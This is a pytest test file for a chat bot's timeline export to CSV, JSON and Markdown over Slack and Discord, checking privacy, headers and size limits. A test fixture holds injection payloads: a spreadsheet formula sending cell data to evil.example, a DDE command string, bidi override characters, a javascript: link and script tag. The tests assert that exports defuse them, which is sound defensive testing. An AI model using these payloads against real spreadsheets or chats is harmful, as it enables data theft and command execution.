"""The timeline as a file, through whole bots: what a member gets in a chat is what the command line writes."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import shlex
from collections.abc import AsyncIterator
from html import unescape
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.commands.base import Completion, Member, Press
from bot.message import Actions, File, Message
from digests.archive import media
from tests.bot.adapters.slack.setting import words_of
from tests.fakes.discord.schema import check_request
from tests.fakes.discord.server import TOKEN, FakeDiscord
from tests.fakes.slack.server import FakeSlack
from tests.system.conftest import Bot, StartBot, over_slack

BORIS = Member("slack", "T1", "C1", "U2", admin=False, language="en", zone="UTC")
STRANGER = Member("slack", "T2", "C9", "U2", admin=False, language="en", zone="UTC")
TYPES = {"csv": "text/csv", "json": "application/json", "markdown": "text/markdown"}
LINK = re.compile(r'<a class="button" href="(/media/[0-9a-f]+/([\w.-]+))" download="\2">')
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "＋cmd|' /C calc'!A0",
    "\u202e=1+1",
    "[click](javascript:alert(1)) <script>alert(1)</script> # **heading**",
    "<!channel> @everyone \u2066turned\u2069",
)


async def written(config: Path, form: str, *narrowed: str, language: str = "en") -> str:
    """What ``kakehashi export timeline`` writes."""
    out = config.parent / "written"
    line = ["--config", str(config), "export", "timeline", "--format", form, "--language", language, *narrowed]
    result = await asyncio.to_thread(CliRunner().invoke, cli, [*line, "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out.read_text(encoding="utf-8")


async def fetched(bot: Bot, html: str) -> tuple[bytes, aiohttp.ClientResponse, str]:
    """The file behind the link in a message of the local chat, its answer and its name."""
    found = LINK.search(html)
    assert found is not None, html
    async with aiohttp.ClientSession(bot.address) as http, http.get(found[1]) as answer:
        assert answer.status == 200
        return await answer.read(), answer, found[2]


def file_of(message: Message) -> File:
    (file,) = [block for block in message.blocks if isinstance(block, File)]
    return file


@pytest.fixture
def hostile(config: Path) -> Path:
    """The configuration with facts whose claims want to be more than text."""
    path = config / "stories" / "tiny" / "facts.yaml"
    facts = [
        {
            "id": f"ev-{number:03}",
            "date": f"2024-01-{number:02}",
            "section": "money",
            "status": "reported",
            "claim": dict.fromkeys(("en", "ja", "uk"), words),
            "actors": ["=1+1", "River Bridge Authority"],
            "source": {
                "title": "x", "publisher": "@SUM(A1)", "url": "https://courier.example/x", "kind": "local",
            },
            "grade": "press",
        }
        for number, words in enumerate(HOSTILE, 1)
    ]  # fmt: skip
    listed = "".join(f"  - {json.dumps(fact)}\n" for fact in facts)
    path.write_text(path.read_text(encoding="utf-8") + listed, encoding="utf-8")
    return config


@pytest.mark.parametrize("form", TYPES)
async def test_the_file_in_the_chat_is_the_one_of_the_command_line(
    start_bot: StartBot, config: Path, form: str
) -> None:
    bot = await start_bot()
    for filters, language in (
        ("", "en"),
        ("", "ja"),
        ("--section building", "uk"),
        ("--from 2025-09 --to 2026-01", "en"),
        ('--actor "River Bridge Authority" --status announced --section building --from 2020', "en"),
    ):
        narrowed = shlex.split(filters)
        typed = re.sub(r"--(\w+) ", r"\1:", filters)
        card = await bot.say(f"/timeline {typed} export:{form}", language=language)
        assert card["private"]
        assert not card["shareable"]
        content, answer, name = await fetched(bot, card["html"])
        assert content.decode("utf-8-sig") == await written(config, form, *narrowed, language=language)
        assert (answer.content_type, answer.charset) == (TYPES[form], "utf-8")
        assert name == ("timeline-building" if "building" in filters else "timeline") + Path(name).suffix
        disposition = answer.headers["Content-Disposition"]
        assert disposition == f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


async def test_the_reply_says_how_much_there_is_and_from_when(start_bot: StartBot, config: Path) -> None:
    bot = await start_bot()
    rows = json.loads(await written(config, "json"))
    for language, words in (
        ("en", f"{len(rows)} entries, from 14 Mar 2025 to "),
        ("ja", f"{len(rows)}件、2025年3月14日から"),
        ("uk", f"{len(rows)} записів, з 14 бер. 2025\u202fр. до "),
    ):
        card = await bot.say("/timeline export:json", language=language)
        assert words in card["html"], card["html"]
    card = await bot.say("/timeline status:announced section:building export:json")
    assert "1 entry, dated 14 Mar 2025" in card["html"]


async def test_a_spreadsheet_reads_japanese_and_ukrainian(start_bot: StartBot) -> None:
    bot = await start_bot()
    content, _, _ = await fetched(bot, (await bot.say("/timeline export:csv", language="ja"))["html"])
    assert content.startswith("\ufeffid,date,".encode()), "by this mark spreadsheets know UTF-8"
    assert "河川橋梁公社".encode() in content


async def test_where_nothing_fits_there_is_no_file(start_bot: StartBot) -> None:
    bot = await start_bot()
    card = await bot.say("/timeline from:1999 to:1999 export:csv")
    assert "No dated fact fits" in card["html"]
    assert "/media/" not in card["html"]
    wrong = await bot.say("/timeline export:xlsx")
    assert wrong["kind"] == "error"
    assert "Choose one of: csv, json, markdown" in unescape(wrong["html"])


async def test_every_member_is_told_of_the_option_and_nobody_of_a_terminal(start_bot: StartBot) -> None:
    bot = await start_bot()
    page = (await bot.say("/timeline"))["html"]
    assert "export:csv" in page
    assert "kakehashi export" not in page
    choices = await bot.app.dispatcher.complete(Completion("timeline", "export", "", BORIS))
    assert [choice.value for choice in choices] == ["csv", "json", "markdown"]


async def test_hostile_claims_stay_text_in_every_form(start_bot: StartBot, hostile: Path) -> None:
    bot = await start_bot()
    files = {
        form: (await fetched(bot, (await bot.say(f"/timeline money to:2024-01 export:{form}"))["html"]))[0]
        for form in TYPES
    }
    rows = list(csv.DictReader(io.StringIO(files["csv"].decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")) for cell in cells)
    assert not any(sign in cell for cell in cells for sign in "\u202e\u2066\u2069")
    assert any("'=1+1" in cell for cell in cells)
    assert {row["claim"] for row in json.loads(files["json"])} == set(HOSTILE)
    page = files["markdown"].decode()
    assert len(page.splitlines()) == len(HOSTILE)
    assert "](javascript" not in page
    assert "<script" not in page.replace("\\<", "")
    assert "\u202e" not in page


async def test_a_file_that_is_too_large_is_refused_with_the_cure(
    start_bot: StartBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = await start_bot()
    monkeypatch.setattr("bot.commands.keeping.LARGEST", 2_000)
    card = await bot.say("/timeline export:json")
    assert card["kind"] == "error"
    assert "at most 2 kB" in card["html"]
    assert "Narrow it" in card["html"]
    async with bot.app.archive.read() as connection:
        assert not (await connection.exec_driver_sql("SELECT key FROM media")).all()


async def test_the_same_file_is_kept_once_and_nothing_of_it_can_be_asked_for_by_others(start_bot: StartBot) -> None:
    bot = await start_bot()
    host = bot.app.dispatcher
    one, two = [await host.invoke_text("/timeline export:csv", BORIS) for _ in range(2)]
    assert file_of(one) == file_of(two)
    async with bot.app.archive.read() as connection:
        kept = await media.get(connection, file_of(one).key)
        assert len((await connection.exec_driver_sql("SELECT key FROM media")).all()) == 1
    assert kept is not None
    assert len(kept.content) == file_of(one).size
    assert one.private
    assert not any(isinstance(block, Actions) for block in one.blocks), "no button, so no token that could be passed on"
    assert await host.offer_sharing(one, BORIS) == one
    for action in (f"page:{file_of(one).key}:0", f"share:{file_of(one).key}", f"run:{file_of(one).key}"):
        answer = await host.press(Press(action, STRANGER))
        assert not any(isinstance(block, File) for block in answer.blocks)


# --- Slack and Discord -------------------------------------------------------------------------------------


@pytest.fixture
async def slack(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[FakeSlack]:
    async with over_slack(hostile, monkeypatch) as fake:
        yield fake


async def test_in_slack_the_file_comes_by_direct_message(slack: FakeSlack, start_bot: StartBot, config: Path) -> None:
    await start_bot()
    posted = len(slack.messages("C1"))
    await slack.command("U1", "C1", "/kakehashi", "timeline money export:csv")
    await slack.until(lambda: bool(slack.private("U1")))
    (shown,) = slack.private("U1")
    assert "entries, from 1 Jan 2024 to" in words_of(shown)
    assert "timeline-money.csv" in words_of(shown)
    assert "in your direct messages" in words_of(shown)
    (sent,) = slack.messages("DU1")
    (file,) = sent["files"]
    assert (file["name"], file["mimetype"]) == ("timeline-money.csv", "text/csv")
    assert slack.uploads[file["id"]].decode("utf-8-sig") == await written(config, "csv", "--section", "money")
    assert "entries, from 1 Jan 2024 to" in sent["text"]
    assert len(slack.messages("C1")) == posted, "the channel sees nothing of it"
    shared = [asked for method, asked in slack.requests if method == "files.completeUploadExternal"]
    assert [asked["channel_id"] for asked in shared] == ["DU1"]


@pytest.fixture
async def discord(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[FakeDiscord]:
    async with FakeDiscord() as fake:
        fake.checks.append(check_request)
        monkeypatch.setenv("DISCORD_TOKEN", TOKEN)
        path = hostile / "bot.yaml"
        given = f'discord: {{base_url: "{fake.base_url}", gateway: "{fake.gateway_url}", shards: 1}}'
        text = path.read_text().replace("web: {port: 0}\n", f"{given}\n")
        path.write_text(text.replace("web:news", f"discord:{fake.text.id}"))
        yield fake
        assert fake.violations == []


async def test_in_discord_the_file_is_attached_to_the_private_reply(
    discord: FakeDiscord, start_bot: StartBot, config: Path
) -> None:
    await start_bot()
    await discord.command(discord.member, discord.text, "timeline", {"section": "money", "export": "markdown"})
    await discord.until(lambda: discord.seen("PATCH", "/webhooks/*/*/messages/@original"))
    (deferred,) = discord.seen("POST", "/interactions/*/*/callback")
    assert deferred.payload["data"]["flags"] == 64, "for the member alone"
    (seen,) = discord.seen("PATCH", "/webhooks/*/*/messages/@original")
    (attached,) = seen.payload["attachments"]
    told: list[dict[str, Any]] = seen.payload["components"][0]["components"]
    assert {"type": 13, "file": {"url": "attachment://timeline-money.md"}}.items() <= told[-1].items()
    content = (await written(config, "markdown", "--section", "money")).encode()
    assert (attached["filename"], attached["size"]) == ("timeline-money.md", len(content))
